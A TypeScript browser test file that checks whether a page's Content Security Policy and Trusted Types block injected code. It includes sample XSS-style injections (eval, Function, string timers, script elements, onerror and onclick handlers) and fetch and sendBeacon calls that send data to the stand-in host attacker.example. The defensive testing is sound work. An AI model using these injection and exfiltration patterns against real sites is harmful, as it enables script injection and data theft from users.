import { untilLive } from "#site/quiet-page.ts";
import { foreignRequests, isOwned, path } from "./attacker.ts";
import { expect, test } from "./policed-page.ts";

const scripts = /script-src|require-trusted-types-for/;

const fromInside: Record<string, { attack: () => void; directive: RegExp }> = {
  "a text as code (eval)": {
    // biome-ignore lint/security/noGlobalEval: it is the attack.
    attack: () => eval("window.owned = true"),
    directive: scripts,
  },
  "a text as code (Function)": {
    attack: () => new Function("window.owned = true")(),
    directive: scripts,
  },
  "a text as code (a timer)": {
    attack: () => window.setTimeout("window.owned = true" as never, 0),
    directive: scripts,
  },
  "a script of its own": {
    attack: () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.owned = true"));
      document.body.append(script);
    },
    directive: scripts,
  },
  "markup with a handler": {
    attack: () => {
      document.body.innerHTML = '<img src="data:," onerror="window.owned = true">';
    },
    directive: /require-trusted-types-for/,
  },
  "a handler on an element": {
    attack: () => {
      document.body.setAttribute("onclick", "window.owned = true");
      document.body.click();
    },
    directive: scripts,
  },
  "a policy of its own for markup": {
    attack: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => object };
      };
      trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
      Object.assign(window, { owned: true });
    },
    directive: /(^|,)trusted-types/,
  },
  "a call to somebody else": {
    attack: () => {
      fetch("http://attacker.example/take").then(() => Object.assign(window, { owned: true }));
    },
    directive: /connect-src/,
  },
  "a beacon to somebody else": {
    attack: () => navigator.sendBeacon("http://attacker.example/take", "words"),
    directive: /connect-src/,
  },
};

test("code that got in can't run more code, nor call somebody else", async ({
  page,
  refusals,
  messages,
}) => {
  const requests = await foreignRequests(page);
  await page.goto(path);
  await untilLive(page, path);
  for (const [what, { attack, directive }] of Object.entries(fromInside)) {
    refusals.length = 0;
    // What the test's own connection evaluates is exempt from the policy; a timer's callback isn't.
    // A refusal may be an exception: what counts is what was noted, and what happened.
    await page.evaluate(
      `new Promise((done) => setTimeout(() => { try { (${attack})() } catch {} done() }))`,
    );
    await expect
      .poll(() => refusals.map((refusal) => refusal.directive).join(), { message: what })
      .toMatch(directive);
    expect(await isOwned(page), what).toBe(false);
    expect(requests, what).toEqual([]);
  }
  messages.length = 0;
});
